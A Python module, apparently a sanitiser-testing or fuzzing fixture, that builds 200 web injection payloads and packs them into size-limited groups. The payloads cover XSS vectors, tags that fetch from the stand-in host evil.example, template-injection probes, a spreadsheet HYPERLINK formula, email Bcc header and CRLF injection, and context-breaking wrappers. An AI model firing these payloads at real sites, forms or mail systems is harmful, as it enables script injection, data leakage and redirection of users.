"""200 texts that would run or fetch something if any page, paper or mail took them for markup."""

RUN = "alert(1)"
AWAY = "//evil.example/x"
BARE = [
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}>", f"<a href=javascript:{RUN}>x</a>", f"javascript:{RUN}",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<math><mi xlink:href=javascript:{RUN}>", f"<object data=javascript:{RUN}>", f"<form action=javascript:{RUN}>",
    f"<script src={AWAY}></script>", f"<img src={AWAY}>", f"<link rel=stylesheet href={AWAY}>", f"<iframe src={AWAY}>",
    f"<style>@import '{AWAY}';</style>", f"<style>*{{background:url({AWAY})}}</style>", f"<img srcset={AWAY}>",
    f"<base href={AWAY}>", f"<meta http-equiv=refresh content=0;url={AWAY}>", f"<object data={AWAY}>",
    f"<embed src={AWAY}>", "<img src=file:///etc/passwd>", "<a href=data:text/html,x>x</a>",
    f"<svg><use href={AWAY}#a></svg>", f"<div hx-get={AWAY} hx-trigger=load>", f"<div hx-on:load={RUN}>",
    "{{7*7}}{% now 'Y' %}", "{% load static %}{% include 'base.html' %}", "${7*7}#{7*7}<%=7*7%>",
    "&lt;script&gt;&#60;b&#62;",
    "\u202e<b>\u2066", "=HYPERLINK(\"http://evil.example\")", "Subject: x\r\nBcc: evil@evil.example",
    "%0d%0aSet-Cookie: a=b",
    "\"'`><b>", f"<xss id=x tabindex=1 onfocus={RUN}>",
]  # fmt: skip
# What may stand around it, to leave an attribute, an element, a comment or a script first
AROUND = ["{}", '">{}', "'>{}", "</textarea></title></script>{}", "-->]]>{}<!--"]
PAYLOADS = [around.format(bare) if around != "{}" else bare for around in AROUND for bare in BARE]
assert len(set(PAYLOADS)) == 200


def packed(size: int) -> list[list[str]]:
    """All of them in groups that fit whole into a field of `size` characters."""
    groups: list[list[str]] = [[]]
    for each in PAYLOADS:
        if len(" ".join([*groups[-1], each])) > size:
            groups.append([])
        groups[-1].append(each)
    return groups
